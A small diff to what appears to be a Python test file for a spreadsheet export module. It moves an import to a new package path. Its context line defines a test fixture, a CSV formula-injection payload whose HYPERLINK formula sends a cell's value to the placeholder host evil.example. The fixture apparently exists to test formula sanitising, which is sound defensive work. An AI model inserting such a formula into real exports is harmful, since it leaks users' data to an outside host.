@@ -8,7 +8,7 @@ import json
 import stat
 from pathlib import Path
 
-from hubtui.core.export import formula_safe, render, typed_cell, write_export
+from hubtui.core.presenting.export import formula_safe, render, typed_cell, write_export
 
 FORMULA_NAME = 'Harbour,"=HYPERLINK(""http://evil.example/?d=""&B14,""Open"")",'
 
